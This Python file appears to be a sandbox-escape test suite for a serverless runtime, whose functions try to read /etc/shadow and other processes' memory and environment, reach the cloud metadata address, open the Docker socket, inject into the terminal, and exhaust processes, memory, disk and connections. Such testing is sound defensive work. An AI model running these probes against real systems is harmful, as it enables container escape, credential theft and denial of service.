"""A hostile function: each attempt answers what it got at, or nothing. It runs in the sandbox; `e` has what it knows of the outside."""

import contextlib
import ctypes
import errno
import glob
import json
import mmap
import os
import resource
import signal
import socket
import struct
import subprocess
import time
import urllib.request

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWUSER, CLONE_NEWNS, CLONE_NEWNET = 0x10000000, 0x00020000, 0x40000000


def read(path, size=4096):
    with open(path, "rb") as file:
        return file.read(size)


def holds(e, content):
    return e["canary"].encode() in content


def pids():
    return [int(name) for name in os.listdir("/proc") if name.isdigit()]


def syscall(number, *arguments):
    status = libc.syscall(
        ctypes.c_long(number), *[ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    )
    if status < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return status


def talk(host, port, seconds=1.0, text=b"escaped"):
    with socket.create_connection((host, port), seconds) as connection:
        connection.sendall(text)
        connection.settimeout(seconds)
        return connection.recv(100)


# -- files -------------------------------------------------------------------------------------------------------------


def read_the_data_directory(e):
    return holds(e, read(e["file"]))


def read_it_through_the_root_of_another_process(e):
    return [
        pid for pid in pids() for prefix in ("root", "cwd", "root/host") if there(e, f"/proc/{pid}/{prefix}{e['file']}")
    ]


def there(e, path):
    with contextlib.suppress(OSError):
        return holds(e, read(path))
    return False


def read_it_through_a_symbolic_link(e):
    os.symlink(e["file"], "/tmp/link")
    return holds(e, read("/tmp/link"))


def read_it_through_many_dots(e):
    return there(e, "/tmp/" + "../" * 40 + e["file"].lstrip("/"))


def read_it_below_other_mounts(e):
    return [
        path for path in ("/host", "/mnt", "/media", "/oldroot", "/newroot", "/run/host") if there(e, path + e["file"])
    ]


def read_open_descriptors(e):
    found = []
    for name in os.listdir("/proc/self/fd"):
        with contextlib.suppress(OSError):
            target = os.readlink(f"/proc/self/fd/{name}")
            if int(name) > 2 and ("memfd" in target or "socket" in target or target.startswith(e["directory"])):
                found.append(target)
    return [target for target in found if not target.startswith("socket:") or not own_socket(target)]


def own_socket(target):
    inode = target.split("[")[1].rstrip("]")
    return any(inode in read(path, 1 << 20).decode() for path in ("/proc/net/tcp", "/proc/net/unix"))


def read_descriptors_of_others(e):
    found = []
    for path in glob.glob("/proc/[0-9]*/fd/*"):
        if not path.startswith(f"/proc/{os.getpid()}/"):
            with contextlib.suppress(OSError):
                found += [path] if os.readlink(path).startswith("socket:") or holds(e, read(path, 100)) else []
    return found


def read_the_shadow_file(e):
    return read("/etc/shadow")


def list_the_home_of_root(e):
    return os.listdir("/root")


def read_the_environment_of_others(e):
    return [pid for pid in pids() if pid != os.getpid() and there(e, f"/proc/{pid}/environ")]


def write_the_interpreter(e):
    import encodings

    with open(encodings.__file__, "a"):
        return True  # opened is enough


def write_the_runtime(e):
    import boto3

    os.chmod(boto3.__file__, 0o777)
    with open(boto3.__file__, "a"):
        return True  # opened is enough


def write_the_agent(e):
    with open("/var/geumgo/inside/agent.py", "a"):
        return True  # opened is enough


def write_the_resolver(e):
    with open("/etc/hosts", "a"):
        return True  # opened is enough


def preload_a_library(e):
    with open("/etc/ld.so.preload", "a"):
        return True


def mount_something(e):
    return not libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) or not libc.mount(b"/", b"/tmp", None, 4096, None)


def remount_for_writing(e):
    return not libc.mount(None, b"/usr/lib", None, 32 | 4096, None)


def use_the_new_mount_calls(e):
    return syscall(430, ctypes.c_char_p(b"tmpfs"), 0) or syscall(428, -100, ctypes.c_char_p(b"/"), 1)


def leave_by_chroot(e):
    os.mkdir("/tmp/jail")
    os.chroot("/tmp/jail")
    return True


def pivot_the_root(e):
    return not syscall(155, ctypes.c_char_p(b"/tmp"), ctypes.c_char_p(b"/tmp"))


def make_a_device(e):
    os.mknod("/tmp/disk", 0o60666, os.makedev(254, 0))
    return read("/tmp/disk")


def read_devices(e):
    found = []
    for path in (
        "/dev/mem",
        "/dev/kmem",
        "/dev/kmsg",
        "/proc/kcore",
        "/proc/kmsg",
        "/dev/vda",
        "/dev/sda",
        "/dev/nvme0n1",
    ):
        with contextlib.suppress(OSError):
            found.append((path, len(read(path, 10))))
    return found


def open_by_handle(e):
    handle = struct.pack("=Ii", 8, 1) + struct.pack("=II", 2, 0)
    directory = os.open("/usr/lib", os.O_RDONLY)
    return syscall(304, directory, ctypes.c_char_p(handle), 0)


# -- rights ------------------------------------------------------------------------------------------------------------


def become_root(e):
    os.setresuid(0, 0, 0)
    return os.getuid() == 0


def run_what_is_set_uid(e):
    for command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["mount"], ["newgrp"], ["passwd", "-S", "root"]):
        with contextlib.suppress(OSError, subprocess.SubprocessError):
            got = subprocess.run(command, capture_output=True, text=True, timeout=2, stdin=subprocess.DEVNULL)
            if "uid=0" in got.stdout:
                return got.stdout
    return None


def take_capabilities(e):
    header = struct.pack("=Ii", 0x20080522, 0)
    if libc.capset(ctypes.c_char_p(header), ctypes.c_char_p(struct.pack("=6I", *[0xFFFFFFFF] * 6))):
        return None
    return True


def have_capabilities(e):
    fields = dict(line.split(":\t") for line in read("/proc/self/status").decode().splitlines() if ":\t" in line)
    rights = [fields[name] for name in ("CapInh", "CapPrm", "CapEff", "CapAmb") if int(fields[name], 16)]
    return rights or (fields["NoNewPrivs"] != "1") or None


def make_a_user_namespace(e):
    if libc.unshare(CLONE_NEWUSER):
        return None
    return True


def clone_a_user_namespace(e):
    pid = syscall(56, CLONE_NEWUSER | CLONE_NEWNET | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        os._exit(0)
    return pid


def clone_it_the_new_way(e):
    arguments = struct.pack("=8Q", CLONE_NEWUSER, 0, 0, 0, signal.SIGCHLD, 0, 0, 0)
    pid = syscall(435, ctypes.c_char_p(arguments), len(arguments))
    if pid == 0:
        os._exit(0)
    return pid


def join_other_namespaces(e):
    found = []
    for path in glob.glob("/proc/[0-9]*/ns/*"):
        with contextlib.suppress(OSError):
            descriptor = os.open(path, os.O_RDONLY)
            found += [path] if not libc.setns(descriptor, 0) else []
    return found


# -- other processes ---------------------------------------------------------------------------------------------------


def see_the_server(e):
    return [pid for pid in pids() if there({"canary": e["marker"]}, f"/proc/{pid}/cmdline") and pid != os.getpid()]


def signal_the_server(e):
    os.kill(e["pid"], 0)
    return not there({"canary": "inside.bootstrap"}, f"/proc/{e['pid']}/cmdline")


def trace_others(e):
    return [pid for pid in pids() if pid != os.getpid() and libc.ptrace(16, pid, 0, 0) == 0]


def read_the_memory_of_others(e):
    found = []
    for pid in pids():
        if pid != os.getpid():
            with contextlib.suppress(OSError):
                with open(f"/proc/{pid}/mem", "rb") as file:
                    found.append(pid)
    return found


def copy_the_memory_of_others(e):
    buffer = ctypes.create_string_buffer(16)
    local = (ctypes.c_ulong * 2)(ctypes.addressof(buffer), 16)
    got = []
    for pid in [each for each in pids() if each != os.getpid()]:
        remote = (ctypes.c_ulong * 2)(0x400000, 16)
        got += [pid] if libc.process_vm_readv(pid, local, 1, remote, 1, 0) > 0 else []
    return got


def steal_descriptors(e):
    found = []
    for pid in [each for each in pids() if each != os.getpid()]:
        for number in range(3, 20):
            with contextlib.suppress(OSError):
                found.append(syscall(438, os.pidfd_open(pid), number, 0))
    return found


def use_kernel_keys(e):
    return syscall(248, ctypes.c_char_p(b"user"), ctypes.c_char_p(b"name"), ctypes.c_char_p(b"x"), 1, -3)


def use_dangerous_calls(e):
    found = []
    for name, number, arguments in (
        ("bpf", 321, (0, ctypes.create_string_buffer(128), 128)),
        ("perf", 298, (ctypes.create_string_buffer(128), 0, -1, -1, 0)),
        ("userfaultfd", 323, (0,)),
        ("io_uring", 425, (4, ctypes.create_string_buffer(256))),
        ("memfd", 319, (ctypes.c_char_p(b"x"), 0)),
        ("shm", 29, (0, 4096, 0o1600)),
    ):
        with contextlib.suppress(OSError):
            syscall(number, *arguments)
            found.append(name)
    return found


def use_the_32_bit_door(e):
    return syscall(0x40000000 + 39) or None


def change_the_machine(e):
    """Opened for writing is enough: nothing is written, for where it works it would work on the machine of whoever runs this."""
    found = []
    for path in (
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sysrq-trigger", "/proc/sys/vm/drop_caches",
        "/proc/sys/net/ipv4/ip_forward", "/proc/sys/user/max_user_namespaces", "/sys/fs/cgroup/release_agent", "/proc/irq/default_smp_affinity",
    ):  # fmt: skip
        with contextlib.suppress(OSError):
            os.close(os.open(path, os.O_WRONLY))
            found.append(path)
    return found


def spare_oneself_from_the_memory_killer(e):
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("-1000")
    return True


def reach_control_groups(e):
    return [path for path in ("/sys", "/sys/fs/cgroup", "/cgroup") if os.path.exists(path)]


def set_the_clock(e):
    """With a time that the kernel takes from nobody (EINVAL); who may not set it does not get that far."""
    try:
        return syscall(227, 0, ctypes.c_char_p(struct.pack("=qq", 0, 2_000_000_000))) or True
    except OSError as fault:
        return fault.errno == errno.EINVAL


def set_the_host_name(e):
    socket.sethostname("x")
    return True


def type_into_the_terminal(e):
    import fcntl
    import termios

    with open("/dev/tty", "r+b", buffering=0) as file:
        fcntl.ioctl(file, termios.TIOCSTI, b"x")
    return True


# -- the network -------------------------------------------------------------------------------------------------------


def connect_to_the_machine(e):
    return talk("127.0.0.1", e["port"])


def connect_to_the_machine_by_its_address(e):
    return talk(e["address"], e["port"]) if e["address"] else None


def connect_to_the_metadata(e):
    return [
        talk(host, 80, text=b"GET / HTTP/1.0\r\n\r\n") for host in ("169.254.169.254", "fd00:ec2::254", "169.254.170.2")
    ]


def connect_to_the_internet(e):
    return talk("1.1.1.1", 53)


def send_a_datagram(e):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(1)
        made.sendto(b"escaped", ("127.0.0.1", e["port"]))
        return made.recv(100)


def open_raw_sockets(e):
    found = []
    for family, kind, protocol in ((2, 3, 1), (10, 3, 58), (17, 3, 3), (16, 3, 0), (40, 1, 0), (38, 5, 0), (15, 3, 2)):
        with contextlib.suppress(OSError):
            socket.socket(family, kind, protocol).close()
            found.append(family)
    return found


def connect_to_an_abstract_socket(e):
    with socket.socket(socket.AF_UNIX) as made:
        made.connect("\0" + e["abstract"])
        return True


def connect_to_socket_files(e):
    found = []
    for path in (
        e["socket"],
        "/run/docker.sock",
        "/run/dbus/system_bus_socket",
        "/run/systemd/private",
        "/var/run/postgresql/.s.PGSQL.5432",
    ):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as made:
            made.connect(path)
            found.append(path)
    return found


def look_up_names(e):
    return [socket.getaddrinfo(name, 80) for name in (f"{e['canary']}.example.org",)]


def ask_another_name_server(e):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.settimeout(1)
        made.sendto(bytes.fromhex("0001010000010000000000000765786d61706c65036f72670000010001"), ("8.8.8.8", 53))
        return made.recv(512)


def connect_through_the_server(e):
    found = []
    for text in (
        f"CONNECT 127.0.0.1:{e['port']} HTTP/1.1\r\n\r\n",
        f"GET http://127.0.0.1:{e['port']}/ HTTP/1.1\r\nHost: x\r\n\r\n",
    ):
        for host, port in (("127.77.0.2", 80), ("127.77.0.1", 9001)):
            with contextlib.suppress(OSError):
                got = talk(host, port, text=text.encode())
                found += [got] if b"tripped" in got else []
    return found


def read_a_secret_that_names_the_machine(e):
    ask_for(e, "127.0.0.1")
    return talk("127.0.0.1", e["port"])


def read_a_secret_that_names_the_metadata(e):
    ask_for(e, "169.254.169.254")
    return talk("169.254.169.254", e["port"])


def read_a_secret_whose_host_leads_inside(e):
    ask_for(e, "rebinding.example.org")
    return talk("rebinding.example.org", e["port"])


def ask_for(e, host):
    body = json.dumps({"SecretString": json.dumps({"host": host, "port": e["port"]})}).encode()
    with urllib.request.urlopen(os.environ["AWS_ENDPOINT_URL"] + "/say", body, 2) as answer:
        assert host in answer.read().decode()


def take_the_place_of_the_runtime_api(e):
    with socket.socket() as made:
        made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        made.bind(("127.77.0.2", 80))
        return True


# -- more than its share -----------------------------------------------------------------------------------------------


def fork_without_end(e):
    alive = 0
    for _ in range(400):
        try:
            if os.fork() == 0:
                time.sleep(20)
                os._exit(0)
            alive += 1
        except OSError:
            break
    time.sleep(0.3)
    return alive if alive > 64 else None


def take_all_memory(e):
    kept = []
    for _ in range(60):
        kept.append(b"x" * (10 << 20))
        time.sleep(0.01)
    return len(kept)


def take_memory_in_many_processes(e):
    for _ in range(10):
        if os.fork() == 0:
            kept = b"x" * (60 << 20)
            time.sleep(3)
            os._exit(len(kept) and 0)
    time.sleep(2)
    return True


def take_shared_memory(e):
    kept = mmap.mmap(-1, 600 << 20)
    for at in range(0, 600 << 20, 4096):
        kept[at] = 1
        if at % (20 << 20) == 0:
            time.sleep(0.01)
    return True


def fill_the_disk(e):
    written = 0
    for directory in ("/tmp", "/var/task", "/opt", "/dev/shm", "/dev", "/", "/var", "/etc", "/run"):
        with contextlib.suppress(OSError):
            for number in range(100):
                with open(f"{directory}/fill{number}", "wb") as file:
                    for _ in range(16):
                        written += file.write(bytes(1 << 20))
    return written if written > 100 << 20 else None


def open_files_without_end(e):
    kept: list[int] = []
    with contextlib.suppress(OSError):
        while len(kept) < 5000:
            kept.append(os.dup(0))
    return len(kept) if len(kept) > 1100 else None


def raise_the_limits(e):
    resource.setrlimit(resource.RLIMIT_AS, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    return True


def leave_a_process_behind(e):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            for number in range(1, 32):
                with contextlib.suppress(OSError, ValueError):
                    signal.signal(number, signal.SIG_IGN)
            os.execv("/bin/sh", ["sh", "-c", f"trap '' 15 2 1; sleep 4; : {e['canary']}"])
        os._exit(0)
    time.sleep(0.2)
    return None


def outlive_the_timeout(e):
    for number in range(1, 32):
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    subprocess.Popen(["/bin/sh", "-c", f"trap '' 15; sleep 5; : {e['canary']}"], start_new_session=True)
    time.sleep(30)


def drown_the_log(e):
    line = "x" * 1000 + "\n"
    for _ in range(20_000):
        os.write(1, line.encode())


def answer_without_end(e):
    with socket.create_connection(("127.77.0.1", 9001), 2) as made:
        made.sendall(
            b"POST /2018-06-01/runtime/invocation/x/response HTTP/1.1\r\nContent-Length: 99999999999999999999\r\n\r\n"
        )
        with contextlib.suppress(OSError):
            for _ in range(500):
                made.sendall(bytes(1 << 20))
            return "all of it was taken"
    return None


def confuse_the_runtime_api(e):
    for text in (
        b"\0" * 1000,
        b"GET\r\n\r\n",
        b"POST /2018-06-01/runtime/invocation/../init/error HTTP/1.1\r\nContent-Length: -1\r\n\r\n",
        b"X" * 2_000_000,
    ):
        with contextlib.suppress(OSError), socket.create_connection(("127.77.0.1", 9001), 2) as made:
            made.settimeout(0.3)
            made.sendall(text)
            made.recv(100)


def connect_without_end(e):
    kept: list[socket.socket] = []
    with contextlib.suppress(OSError):
        while len(kept) < 900:
            kept.append(socket.create_connection(("127.77.0.2", 80), 1))


def print_without_end(e):
    while True:
        os.write(1, b"x" * 60_000 + b"\n")


def ask_for_names_without_end(e):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.connect(("127.0.0.53", 53))
        while True:
            with contextlib.suppress(OSError):
                made.send(b"x" * 100)


def connect_to_the_runtime_without_end(e):
    kept = []
    while True:
        with contextlib.suppress(OSError):
            kept.append(socket.create_connection(("127.77.0.1", 9001), 1))


ATTEMPTS = {
    name: each
    for name, each in list(globals().items())
    if callable(each) and hasattr(each, "__code__") and each.__code__.co_varnames[: each.__code__.co_argcount] == ("e",)
}


def handler(event, context):
    try:
        return ATTEMPTS[event["attempt"]](event) or None
    except (OSError, ValueError, MemoryError, ImportError, AttributeError) as fault:
        print(type(fault).__name__, fault)
        return None
